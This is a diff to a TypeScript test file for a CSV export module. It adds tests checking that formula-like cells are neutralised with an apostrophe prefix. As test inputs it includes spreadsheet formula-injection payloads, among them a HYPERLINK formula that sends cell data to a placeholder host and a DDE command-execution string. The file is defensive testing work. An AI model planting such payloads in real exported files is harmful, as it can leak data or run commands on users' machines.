@@ -2,13 +2,57 @@ import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from './csv';
-import { toCsv } from './csvExport';
+import { spreadsheetSafeCell, toCsv } from './csvExport';
 import { mapColumns } from './records';
 
 const fixture = (name: string) =>
   new Uint8Array(readFileSync(new URL(`../../test/fixtures/data/${name}`, import.meta.url)));
 
+describe('spreadsheetSafeCell', () => {
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['-', "'-"],
+    ['+', "'+"],
+    ['-Infinity', "'-Infinity"],
+    ['--5', "'--5"],
+    ['-5-', "'-5-"],
+    ['-1e5+cmd', "'-1e5+cmd"],
+  ])('neutralises %j', (text, safe) => {
+    expect(spreadsheetSafeCell(text)).toBe(safe);
+  });
+
+  it.each(['-5', '+3.2', '-0.5', '-.5', '+7', '1e5', '-1e5', '-1.5E-3', '-5,25', '', 'plain text', ' =1+1', "'=1"])(
+    'keeps %j as it is',
+    (text) => {
+      expect(spreadsheetSafeCell(text)).toBe(text);
+    },
+  );
+});
+
 describe('toCsv', () => {
+  it('writes formula-like cells as text and numbers as numbers', () => {
+    const text = toCsv(
+      [
+        { name: '=cmd|" /C calc"!A0', amount: -5, note: '-5', at: '@home', tab: '\tx' },
+        { name: '+A1', amount: 3.2, note: '+3.2', at: 'a@b', tab: 'x' },
+      ],
+      ['name', 'amount', 'note', 'at', 'tab'],
+    );
+    expect(text).toBe(
+      'name,amount,note,at,tab\r\n' + '"\'=cmd|"" /C calc""!A0",-5,-5,\'@home,\'\tx\r\n' + "'+A1,3.2,+3.2,a@b,x\r\n",
+    );
+  });
+
+  it('neutralises a formula in a column name too', () => {
+    expect(toCsv([], ['=1+1', 'ok'])).toBe("'=1+1,ok\r\n");
+  });
+
   it('writes a header, CRLF line ends, and quotes only where needed', () => {
     const text = toCsv(
       [
@@ -65,7 +109,7 @@ describe('toCsv', () => {
           });
           expect(table.columns).toEqual(columns);
           expect(table.rows.map((row) => row.cells)).toEqual(
-            records.map((record) => columns.map((column) => record[column])),
+            records.map((record) => columns.map((column) => spreadsheetSafeCell(record[column]!))),
           );
           expect(table.issues).toEqual([]);
         },
